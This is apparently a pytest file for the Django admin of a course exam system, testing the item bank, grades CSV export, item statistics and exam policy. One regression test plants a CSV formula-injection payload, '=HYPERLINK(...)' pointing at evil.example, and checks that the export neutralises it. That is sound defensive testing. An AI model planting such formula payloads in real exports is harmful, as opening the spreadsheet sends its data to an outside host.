"""The exam admin: item bank with filters, hand-written items, attempts, grades CSV, statistics."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from courses.models import Step
from quizzes.models import ExamItem, ExamPolicy

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client_(db):
    from django.contrib.auth import get_user_model

    admin = get_user_model().objects.create_superuser(
        username="root", email="root@example.org", password="a-long-admin-password-1"
    )
    # English: these tests read the English texts (German: tests/lms/test_admin_language.py).
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(admin)
    return client


@pytest.fixture
def two_learners_took_the_exam(make_learner, enroll, client_for, exam, bank):
    for name, correct in (("strong", 9), ("weak", 3)):
        user = make_learner(name, display_name=name.title())
        enroll(user)
        exam.take(client_for(user), correct=correct)


@pytest.mark.parametrize(
    "query",
    ["", "?kind__exact=true_false", "?origin__exact=generated", "?is_active__exact=1", "?q=FP16"],
)
def test_item_bank_list_and_filters(admin_client_, course, bank, query):
    response = admin_client_.get(f"/admin/quizzes/examitem/{query}")
    assert response.status_code == 200
    assert b"Item analysis" in response.content


def test_item_bank_filters_by_module_and_step(admin_client_, course, bank):
    step = Step.objects.get(module=course, term="FP16")
    response = admin_client_.get(
        f"/admin/quizzes/examitem/?module__id__exact={course.pk}&step__id__exact={step.pk}"
    )
    assert response.status_code == 200
    assert response.context["cl"].result_count == 4


def test_admin_adds_a_hand_written_item_and_rejects_a_broken_one(admin_client_, course, bank):
    form = {
        "module": course.pk,
        "step": "",
        "kind": "multiple_choice",
        "prompt": "Welche Formate sind 16 Bit breit?",
        "text_format": "plain",
        # The options as the editor's rows; none ticked right yet.
        "choice_rows-0-text": "FP16",
        "choice_rows-1-text": "BF16",
        "choice_rows-2-text": "FP32",
        "explanation": "",
        "status": "draft",
        "is_active": "on",
    }
    response = admin_client_.post("/admin/quizzes/examitem/add/", form)
    assert response.status_code == 200  # form shown again with the error
    assert b"Tick at least one right option." in response.content
    assert not ExamItem.objects.filter(origin="hand_written").exists()

    form["choice_rows-0-correct"] = form["choice_rows-1-correct"] = "on"
    response = admin_client_.post("/admin/quizzes/examitem/add/", form)
    assert response.status_code == 302
    item = ExamItem.objects.get(origin="hand_written")
    assert item.generator_key is None and item.correct_keys == ["a", "b"]


def test_copy_as_hand_written_action(admin_client_, course, bank):
    original = ExamItem.objects.get(generator_key="fp16:term-for-description")
    response = admin_client_.post(
        "/admin/quizzes/examitem/",
        {"action": "copy_as_hand_written", "_selected_action": [original.pk]},
    )
    assert response.status_code == 302
    original.refresh_from_db()
    assert original.is_active is False
    copy = ExamItem.objects.get(origin="hand_written")
    assert (copy.prompt, copy.options, copy.correct_keys) == (
        original.prompt,
        original.options,
        original.correct_keys,
    )


def test_attempts_list_shows_scores(admin_client_, two_learners_took_the_exam):
    response = admin_client_.get("/admin/quizzes/examattempt/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Grades (CSV)" in html
    assert "90 %" in html
    detail = admin_client_.get(
        f"/admin/quizzes/examattempt/{response.context['cl'].result_list[0].pk}/change/"
    )
    assert detail.status_code == 200


def test_grades_csv(admin_client_, two_learners_took_the_exam):
    response = admin_client_.get("/admin/quizzes/examattempt/grades.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    by_user = {row["Username"]: row for row in rows}
    assert set(by_user) == {"strong", "weak"}
    assert by_user["strong"]["Final grade (%)"] == "90.00"
    assert by_user["strong"]["Passed"] == "yes"
    assert by_user["strong"]["Certificate issued"] == "yes"
    assert by_user["weak"]["Final grade (%)"] == "30.00" and by_user["weak"]["Passed"] == "no"
    assert by_user["weak"]["Full name"] == "Lena Lernende"  # not the display name "Weak"
    one = admin_client_.get("/admin/quizzes/examattempt/grades.csv?module=self-hosting-27")
    assert one.content == response.content


def test_grades_csv_cells_cannot_become_formulas(admin_client_, two_learners_took_the_exam):
    """Issue 13: the grades CSV wrote a learner's display name '=HYPERLINK(...)' raw, while the
    enrollments CSV neutralised it; both now write through lms.csv_export."""
    from django.contrib.auth import get_user_model

    get_user_model().objects.filter(username="strong").update(
        username="@strong",
        full_name='=HYPERLINK("https://evil.example/?"&A1,"Noten")',
        email="+strong@example.org",
    )
    get_user_model().objects.filter(username="weak").update(full_name="-2+3")
    response = admin_client_.get("/admin/quizzes/examattempt/grades.csv")
    text = io.StringIO(response.content.decode("utf-8-sig"))
    by_user = {row["Username"]: row for row in csv.DictReader(text, delimiter=";")}
    assert set(by_user) == {"'@strong", "weak"}
    strong = by_user["'@strong"]
    assert strong["Full name"] == """'=HYPERLINK("https://evil.example/?"&A1,"Noten")"""
    assert strong["E-mail"] == "'+strong@example.org"
    assert by_user["weak"]["Full name"] == "'-2+3"
    # What Lernpfad itself writes (numbers, yes/no, times) stays as it is.
    assert strong["Final grade (%)"] == "90.00" and strong["Passed"] == "yes"
    assert strong["Last attempt finished"][:2] == "20"


@pytest.mark.parametrize("module", ["no-such-module", "x" * 300, "ä"])
def test_grades_csv_of_an_unknown_module_is_a_404(
    admin_client_, two_learners_took_the_exam, module
):
    """Issue 13: ?module=<unknown> raised the API's ModuleNotFound in the admin, a 500."""
    response = admin_client_.get("/admin/quizzes/examattempt/grades.csv", {"module": module})
    assert response.status_code == 404


def test_grades_csv_needs_staff(client, two_learners_took_the_exam):
    response = client.get("/admin/quizzes/examattempt/grades.csv")
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_item_analysis_page(admin_client_, two_learners_took_the_exam):
    response = admin_client_.get("/admin/quizzes/examitem/statistics/?module=self-hosting-27")
    assert response.status_code == 200
    assert response.context["exam"].attempts == 2
    rows = [item["row"] for item in response.context["shown"] if item["row"].figures]
    assert sum(row.figures.answered for row in rows) == 20  # two learners, ten items each
    for row in rows:
        assert row.figures.facility in (0.0, 50.0, 100.0)
        # Two answers that differ correlate fully with the rest of the test, one way or the other.
        if row.figures.answered == 2 and row.figures.facility == 50.0:
            assert row.figures.discrimination_index == pytest.approx(100.0) or (
                row.figures.discrimination_index == pytest.approx(-100.0)
            )
        else:
            assert row.figures.discrimination_index is None
        # Nothing was edited since: every answer counts for the item as it reads now.
        assert row.current == row.figures and row.earlier is None
    assert b"Item analysis of the exam" in response.content


def test_policy_is_editable(admin_client_, course, policy):
    from progress import api as progress_api

    response = admin_client_.get(f"/admin/quizzes/exampolicy/{policy.pk}/change/")
    assert response.status_code == 200
    # The step completion rule sits with the policy, at its defaults (the strictest, 30 %).
    assert response.context["adminform"].form["step_completion_rule"].value() == (
        "sections_quick_check"
    )
    assert response.context["adminform"].form["step_reading_time_share"].value() == 30
    form = {
        "module": course.pk,
        "items_per_attempt": 12,
        "time_limit_minutes": 30,
        "pass_mark_percent": "75.00",
        "max_attempts": 2,
        "wait_between_attempts_minutes": 60,
        "grading_method": "last",
        "review_content": "correct_answers",
        "review_timing": "immediately",
        "required_step_share": 50,
        "step_completion_rule": "sections",
        "step_reading_time_share": 10,
    }
    response = admin_client_.post(f"/admin/quizzes/exampolicy/{policy.pk}/change/", form)
    assert response.status_code == 302
    policy = ExamPolicy.objects.get()
    assert (
        policy.items_per_attempt,
        policy.grading_method,
        policy.required_step_share,
    ) == (
        12,
        "last",
        50,
    )
    assert progress_api.completion_rule_get(module_id=course.pk) == (
        progress_api.CompletionRuleData(rule="sections", reading_time_share=10)
    )
    # A share over 100 % is the form's error; neither the policy nor the rule changes.
    response = admin_client_.post(
        f"/admin/quizzes/exampolicy/{policy.pk}/change/",
        form | {"step_reading_time_share": 150, "items_per_attempt": 13},
    )
    assert response.status_code == 200 and response.context["adminform"].form.errors
    assert ExamPolicy.objects.get().items_per_attempt == 12
    assert progress_api.completion_rule_get(module_id=course.pk).reading_time_share == 10


def test_hand_written_item_with_a_step_of_another_module_is_refused(admin_client_, course):
    from courses.models import Module

    other = Module.objects.create(slug="other", series="Other", number=1, title="O", header="O")
    foreign = Step.objects.create(
        module=other,
        slug="x",
        number=1,
        total=1,
        term="X",
        lead="X ist ein Begriff.",
        definition="X ist ein Begriff.",
        level="B1",
        source_hash="0",
        content_hash="0",
    )
    form = {
        "module": course.pk,
        "step": foreign.pk,
        "kind": "true_false",
        "prompt": "X ist ein Begriff.",
        "text_format": "plain",
        "true_false_correct": "true",
        "explanation": "",
        "is_active": "on",
    }
    response = admin_client_.post("/admin/quizzes/examitem/add/", form)
    assert response.status_code == 200
    assert b"The step must belong to the item" in response.content
    assert not ExamItem.objects.exists()
